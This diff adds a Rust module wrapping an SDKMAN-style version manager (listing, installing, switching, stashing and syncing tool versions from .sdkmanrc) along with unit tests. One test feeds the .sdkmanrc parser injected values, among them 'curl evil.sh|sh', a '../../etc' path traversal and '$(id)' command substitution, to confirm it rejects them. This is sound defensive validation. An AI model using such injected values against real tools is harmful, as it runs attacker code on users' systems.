@@ -0,0 +1,239 @@
+use std::fs;
+use std::path::Path;
+use std::path::PathBuf;
+
+use crate::alias;
+use crate::cache;
+use crate::cache::Namespace;
+use crate::install;
+use crate::install::Progress;
+use crate::local;
+use crate::local::LocalCandidate;
+use crate::manifest;
+use crate::remote;
+use crate::remote::RemoteCandidate;
+use crate::remote::SdkmanApiError;
+
+// the installation the app manages, for other tools and scripts: what there is, what's
+// installed, and installing, using and removing versions like the sdk command does
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Sdkman;
+
+impl Sdkman {
+    pub fn new() -> Sdkman {
+        Sdkman
+    }
+
+    // the candidates the API offers, without their versions
+    pub fn list(&self) -> Result<Vec<RemoteCandidate>, SdkmanApiError> {
+        remote::fetch_remote_candidates()
+    }
+
+    // the candidates as the API offers them now, not as they were cached
+    pub fn refresh(&self) -> Result<Vec<RemoteCandidate>, SdkmanApiError> {
+        if let Err(e) = cache::invalidate_entry(Namespace::Catalog, &remote::catalog_cache_key()) {
+            tracing::warn!("Failed to clear the cached candidate list: {}", e);
+        }
+        self.list()
+    }
+
+    pub fn installed(&self) -> Result<Vec<LocalCandidate>, SdkmanApiError> {
+        Ok(local::retrieve_local_candidates()?)
+    }
+
+    // the candidate with all of its versions
+    pub fn candidate(&self, binary_name: &str) -> Result<RemoteCandidate, SdkmanApiError> {
+        let mut candidate = self
+            .list()?
+            .into_iter()
+            .find(|candidate| candidate.binary_name() == binary_name)
+            .ok_or_else(|| SdkmanApiError::UnknownCandidate(binary_name.to_string()))?;
+        self.load_versions(&mut candidate)?;
+        Ok(candidate)
+    }
+
+    // fills in the versions of a candidate from the list
+    pub fn load_versions(&self, candidate: &mut RemoteCandidate) -> Result<(), SdkmanApiError> {
+        remote::fetch_candidate_versions(candidate).map(|_| ())
+    }
+
+    // the versions are fetched afresh the next time
+    pub fn forget_versions(&self, binary_name: &str) -> std::io::Result<()> {
+        cache::invalidate_entry(
+            Namespace::Versions,
+            &remote::versions_cache_key(binary_name),
+        )
+    }
+
+    // the version a shorthand like latest, lts or 21-tem stands for
+    pub fn resolve(&self, binary_name: &str, alias: &str) -> Result<String, SdkmanApiError> {
+        let candidate = self.candidate(binary_name)?;
+        alias::resolve(
+            binary_name,
+            alias,
+            candidate.versions(),
+            candidate.default_version(),
+        )
+        .ok_or_else(|| SdkmanApiError::NoMatchingVersion(format!("{} {}", binary_name, alias)))
+    }
+
+    pub fn install(&self, binary_name: &str, version: &str) -> Result<(), SdkmanApiError> {
+        self.install_with_progress(binary_name, version, &mut |_| {})
+    }
+
+    pub fn install_with_progress(
+        &self,
+        binary_name: &str,
+        version: &str,
+        on_progress: &mut dyn FnMut(Progress),
+    ) -> Result<(), SdkmanApiError> {
+        install::install_version(binary_name, version, on_progress)
+    }
+
+    // installs a downloaded archive as the version
+    pub fn install_archive(
+        &self,
+        binary_name: &str,
+        version: &str,
+        archive: &Path,
+        on_progress: &mut dyn FnMut(Progress),
+    ) -> Result<(), SdkmanApiError> {
+        install::install_archive(binary_name, version, archive, on_progress)
+    }
+
+    pub fn current_version(&self, binary_name: &str) -> Result<Option<String>, SdkmanApiError> {
+        install::current_version(binary_name)
+    }
+
+    // makes the version the current one, like sdk default
+    pub fn use_version(&self, binary_name: &str, version: &str) -> Result<(), SdkmanApiError> {
+        install::set_current_version(binary_name, version)
+    }
+
+    pub fn clear_current_version(&self, binary_name: &str) -> Result<(), SdkmanApiError> {
+        install::clear_current_version(binary_name)
+    }
+
+    pub fn uninstall(&self, binary_name: &str, version: &str) -> Result<(), SdkmanApiError> {
+        install::uninstall_version(binary_name, version)
+    }
+
+    pub fn rename(&self, binary_name: &str, version: &str, to: &str) -> Result<(), SdkmanApiError> {
+        install::rename_version(binary_name, version, to)
+    }
+
+    // where a deleted version is kept until its deletion is final
+    pub fn stash_path(&self, binary_name: &str, version: &str) -> Result<PathBuf, SdkmanApiError> {
+        install::stash_path(binary_name, version)
+    }
+
+    // deletes the version so that it can still be restored
+    pub fn stash(&self, binary_name: &str, version: &str) -> Result<PathBuf, SdkmanApiError> {
+        install::stash_version(binary_name, version)
+    }
+
+    pub fn restore(
+        &self,
+        binary_name: &str,
+        version: &str,
+        stash: &Path,
+    ) -> Result<(), SdkmanApiError> {
+        install::restore_version(binary_name, version, stash)
+    }
+
+    pub fn drop_stash(&self, stash: &Path) -> Result<(), SdkmanApiError> {
+        install::drop_stash(stash)
+    }
+
+    // removes the candidate if none of its versions is left; returns whether it did
+    pub fn remove_if_empty(&self, binary_name: &str) -> Result<bool, SdkmanApiError> {
+        install::remove_empty_candidate(binary_name)
+    }
+
+    // installs what the .sdkmanrc asks for and isn't there yet, like sdk env install; returns the
+    // versions installed
+    pub fn env_sync(&self, sdkmanrc: &Path) -> Result<Vec<(String, String)>, SdkmanApiError> {
+        let missing = self.env_missing(&fs::read_to_string(sdkmanrc)?)?;
+        for (binary_name, version) in &missing {
+            self.install(binary_name, version)?;
+        }
+        Ok(missing)
+    }
+
+    // the versions of a .sdkmanrc that aren't installed
+    pub fn env_missing(&self, sdkmanrc: &str) -> Result<Vec<(String, String)>, SdkmanApiError> {
+        let installed = self.installed()?;
+        Ok(parse_sdkmanrc(sdkmanrc)
+            .into_iter()
+            .filter(|(binary_name, version)| {
+                !installed.iter().any(|local| {
+                    local.binary_name() == binary_name && local.versions().contains_key(version)
+                })
+            })
+            .collect())
+    }
+}
+
+// "candidate=version" lines; comments and blank lines are skipped like sdk env does, and so are
+// lines that aren't a candidate and a valid version, as they'd end up in paths and commands
+pub fn parse_sdkmanrc(content: &str) -> Vec<(String, String)> {
+    let (entries, errors) = manifest::validate_sdkmanrc(content);
+    for error in errors {
+        tracing::warn!("Skipping a .sdkmanrc entry: {}", error);
+    }
+    entries
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use super::*;
+    use crate::mock::MockSource;
+    use crate::store::memory_store;
+
+    #[test]
+    fn resolves_shorthands_with_the_candidates_versions() {
+        remote::set_source(Arc::new(MockSource));
+        let sdkman = Sdkman::new();
+        assert_eq!(sdkman.resolve("java", "11-tem").unwrap(), "11.0.18-tem");
+        assert_eq!(sdkman.resolve("java", "17.0.6-tem").unwrap(), "17.0.6-tem");
+        assert_eq!(sdkman.resolve("gradle", "latest").unwrap(), "8.0.2");
+        assert!(matches!(
+            sdkman.resolve("nonsense", "latest"),
+            Err(SdkmanApiError::UnknownCandidate(_))
+        ));
+    }
+
+    #[test]
+    fn syncs_only_the_missing_versions() {
+        memory_store();
+        let sdkmanrc = "java=17.0.6-tem\nmaven=4.0.0\n";
+        assert_eq!(
+            Sdkman::new().env_missing(sdkmanrc).unwrap(),
+            vec![("maven".to_string(), "4.0.0".to_string())]
+        );
+    }
+
+    #[test]
+    fn parses_sdkmanrc_files() {
+        let content =
+            "# the project's tools\njava=21.0.2-tem\n\n gradle = 8.6 # the wrapper's\nbroken\n";
+        assert_eq!(
+            parse_sdkmanrc(content),
+            vec![
+                ("java".to_string(), "21.0.2-tem".to_string()),
+                ("gradle".to_string(), "8.6".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn skips_sdkmanrc_entries_that_are_no_versions() {
+        let content = "java=21.0.2-tem\nmaven=3.9.6;curl evil.sh|sh\ngradle=../../etc\nsbt=$(id)\n";
+        assert_eq!(
+            parse_sdkmanrc(content),
+            vec![("java".to_string(), "21.0.2-tem".to_string())]
+        );
+    }
+}